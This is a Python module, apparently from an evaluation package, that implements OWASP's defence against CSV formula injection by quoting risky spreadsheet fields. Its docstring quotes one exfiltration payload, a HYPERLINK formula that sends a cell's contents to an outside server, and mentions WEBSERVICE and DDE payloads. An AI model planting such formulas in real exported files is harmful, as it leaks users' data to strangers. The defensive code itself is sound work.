"""Texts a spreadsheet would run: :func:`excel_safe`, OWASP's advice for CSV files.

Run tags, query ids and measure names come from other people's files. A spreadsheet that
opens a CSV or TSV file reads a field starting with ``=``, ``+``, ``-`` or ``@`` (or a tab or
carriage return followed by one) as a formula: ``=HYPERLINK("http://x?"&A1,"y")`` sends a
cell to a stranger's server when clicked, and some programs run ``WEBSERVICE`` or DDE
payloads. This is the "CSV injection" (formula injection) of OWASP. pdireval's own files keep
every value as it is by default, since a prefixed value is a different value to pdireval,
pandas and every other reader; :func:`excel_safe` (and ``write_scores(excel_safe=True)``,
``pdireval evaluate --format csv --excel-safe``) applies OWASP's fix for a file meant for a
spreadsheet.
"""

from __future__ import annotations

import numpy as np
import pandas as pd

__all__ = ["excel_safe", "FORMULA_STARTS", "excel_safe_texts"]

#: The first characters that make a spreadsheet read a text as a formula (OWASP's list for
#: CSV injection: ``= + - @``, tab, carriage return; and the line feed).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def excel_safe_texts(values: pd.Series) -> pd.Series:
    """``values`` with a ``'`` before each text that starts with one of
    :data:`FORMULA_STARTS`; other values (numbers, NaN, other texts) unchanged. Each distinct
    value is looked at once; the dtype is kept (object for a categorical column)."""
    try:
        codes, uniques = pd.factorize(values, use_na_sentinel=True)
    except TypeError:  # unhashable cells (lists): written as their repr, starting with a bracket
        return values
    flags = np.fromiter(
        (isinstance(u, str) and u.startswith(FORMULA_STARTS) for u in uniques),
        dtype=bool,
        count=len(uniques),
    )
    if not flags.any():
        return values
    hit = np.zeros(len(values), dtype=bool)
    known = codes >= 0
    hit[known] = flags[codes[known]]
    array = values.to_numpy(dtype=object, copy=True)
    array[hit] = ["'" + text for text in array[hit]]
    dtype = values.dtype if isinstance(values.dtype, pd.StringDtype) else object
    return pd.Series(array, index=values.index, name=values.name, dtype=dtype)


def excel_safe(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose texts a spreadsheet shows as text, never runs as formulas.

    OWASP's advice against CSV (formula) injection: every text value and column name that
    starts with ``=``, ``+``, ``-``, ``@``, a tab, a carriage return or a line feed
    (:data:`FORMULA_STARTS`) gets a single quote in front (``=HYPERLINK(...)`` becomes
    ``'=HYPERLINK(...)``), which spreadsheets read as "this is text". Numbers (a negative
    mean is a number, not a formula), booleans, NaN and every other text are unchanged, and
    so is the index. Write the result with ``to_csv(..., quoting=csv.QUOTE_NONNUMERIC)``, as
    ``write_scores(format="csv", excel_safe=True)`` does: each text in double quotes, so a
    separator inside a name cannot start a new cell.

    The quoted texts are different values: pdireval, pandas and every other program read
    ``'=x``, not ``=x``. Make such a file for people opening it in a spreadsheet, and keep
    the unprefixed file (pdireval's default) for programs. The Excel workbook of
    :func:`pdireval.report` needs neither: its texts are string cells.

    Parameters
    ----------
    frame
        Any DataFrame (a scores frame, a report table, a :func:`pdireval.compare` result).

    Returns
    -------
    DataFrame
        The same columns, rows and dtypes (a categorical text column becomes object), with
        the texts prefixed as above.

    References
    ----------
    OWASP Foundation. CSV Injection. https://owasp.org/www-community/attacks/CSV_Injection

    Examples
    --------
    >>> import pandas as pd
    >>> import pdireval
    >>> frame = pd.DataFrame({"system": ["=1+1", "@cmd", "bm25"], "mean": [-0.5, 0.3, 0.1]})
    >>> safe = pdireval.excel_safe(frame)
    >>> safe["system"].tolist(), safe["mean"].tolist()
    (["'=1+1", "'@cmd", 'bm25'], [-0.5, 0.3, 0.1])
    """
    if not isinstance(frame, pd.DataFrame):
        raise TypeError(
            f"excel_safe() takes a DataFrame, got {type(frame).__name__}; "
            "wrap a Series with .to_frame()."
        )
    out = frame.copy()
    for j in range(out.shape[1]):
        values = out.iloc[:, j]
        if pd.api.types.is_numeric_dtype(values.dtype) or pd.api.types.is_bool_dtype(values.dtype):
            continue
        safe = excel_safe_texts(values)
        if safe is not values:
            out.isetitem(j, safe)
    out.columns = pd.Index(
        excel_safe_texts(pd.Series(list(frame.columns), dtype=object)).tolist(),
        name=frame.columns.name,
    )
    return out
